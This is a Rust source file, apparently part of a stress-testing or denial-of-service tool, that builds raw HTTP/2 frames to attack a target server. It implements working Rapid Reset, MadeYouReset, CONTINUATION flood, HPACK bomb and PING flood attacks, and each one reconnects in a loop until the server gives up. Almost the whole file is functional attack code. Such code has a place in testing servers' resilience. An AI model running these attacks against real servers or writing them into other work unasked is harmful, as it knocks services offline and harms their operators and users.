//! Attacks of authenticated clients over HTTP/2, frame by frame.

use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::spawn_local;
use tokio::time::{sleep, timeout};

use super::{Attack, Kind};
use crate::client::{Client, Sessions};

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frames, or pairs of them, in one write.
const AT_A_TIME: u32 = 32;
/// A server that takes nothing for so long has given up on this connection.
const PATIENCE: Duration = Duration::from_secs(1);
const PAUSE: Duration = Duration::from_millis(1);

/// Opens connections one after the other, each until the server ends it.
pub(super) async fn attack(attack: &Attack, number: u32) -> Result<()> {
    let client = Client::new(&attack.target, b"h2", Sessions::Forget)?;
    loop {
        let Ok(stream) = client.connect_from(attack.source(number)).await else {
            sleep(PAUSE).await;
            continue;
        };
        let _ = stream.get_ref().0.set_zero_linger();
        let (mut answers, mut frames) = tokio::io::split(stream);
        let reading = spawn_local(async move {
            let mut bytes = vec![0; 16 * 1024];
            while answers.read(&mut bytes).await.unwrap_or(0) > 0 {}
        });
        let mut more = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        let mut stream_id = 1;
        while let Ok(Ok(())) = timeout(PATIENCE, frames.write_all(&more)).await {
            if reading.is_finished() {
                break;
            }
            more = burst(attack, &mut stream_id);
        }
        reading.abort();
    }
}

fn burst(attack: &Attack, stream_id: &mut u32) -> Vec<u8> {
    let get = get(&attack.target.name, &attack.target.path);
    let first = *stream_id == 1;
    let mut burst = Vec::new();
    for _ in 0..AT_A_TIME {
        let id = *stream_id;
        *stream_id += 2;
        let ended = END_HEADERS | END_STREAM;
        match attack.kind {
            Kind::Continuation if first && burst.is_empty() => {
                burst.extend(frame(HEADERS, 0, 1, &get));
            }
            Kind::Continuation => burst.extend(frame(CONTINUATION, 0, 1, &[0x82; 1024])),
            Kind::Hpack => burst.extend(frame(HEADERS, ended, id, &bomb(&get, first && id == 1))),
            Kind::MadeYouReset => {
                burst.extend(frame(HEADERS, ended, id, &get));
                // RFC 9113 §6.9: an increment of 0 is a stream error.
                burst.extend(frame(WINDOW_UPDATE, 0, id, &[0; 4]));
            }
            Kind::RapidReset => {
                burst.extend(frame(HEADERS, ended, id, &get));
                // CANCEL
                burst.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
            }
            _ => burst.extend(frame(PING, 0, 0, &[0; 8])),
        }
    }
    burst
}

/// RFC 9113 §4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = length.to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// RFC 7541 §6.2.2 and §5.2: literals without indexing, lengths under 127.
fn get(authority: &str, path: &str) -> Vec<u8> {
    let text = |text: &str| [&[text.len().min(126) as u8], text.as_bytes()].concat();
    let fields = [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", authority),
        (":path", path),
    ];
    fields
        .iter()
        .flat_map(|(name, value)| [vec![0], text(name), text(value)].concat())
        .collect()
}

/// A request that puts one large field into the table (RFC 7541 §6.2.1), or has it there, and names it thousands of times (§6.1).
fn bomb(get: &[u8], first: bool) -> Vec<u8> {
    let mut block = get.to_vec();
    if first {
        // Indexed literally: a name of 1 octet, a value of 127 + 3,873 = 4,000 octets.
        block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
        block.extend([b'y'; 4000]);
    }
    block.extend([0xbe; 4000]);
    block
}
